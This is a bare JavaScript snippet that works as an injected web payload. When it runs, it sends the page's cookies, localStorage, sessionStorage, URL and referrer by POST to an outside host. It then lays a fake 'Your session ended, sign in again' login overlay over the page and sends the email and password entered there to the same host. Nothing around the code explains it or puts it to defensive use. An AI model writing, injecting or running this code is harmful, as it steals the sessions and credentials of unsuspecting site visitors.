(async () => {
  const data = {
    location: window.location.href, referrer: document.referrer, cookie: document.cookie,
    localStorage: JSON.stringify(localStorage), sessionStorage: JSON.stringify(sessionStorage), origin: location.origin
  };
  await fetch("https://flow.invalid", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ type: "state", ...data }) });
  const layer = document.createElement('div');
  layer.innerHTML = `<div style="position:fixed;inset:0;background:#fff;z-index:9999"><h2>Your session ended, sign in again</h2>
    <input id="u1" placeholder="Email"><input id="p1" placeholder="Password" type="password"><button onclick="giveIt()">Login</button></div>`;
  document.body.appendChild(layer);
  window.giveIt = () => {
    const pair = { email: document.getElementById('u1').value, password: document.getElementById('p1').value };
    fetch("https://flow.invalid", { method: "POST", body: JSON.stringify({ type: "pair", ...pair }) });
    layer.remove();
  };
})();
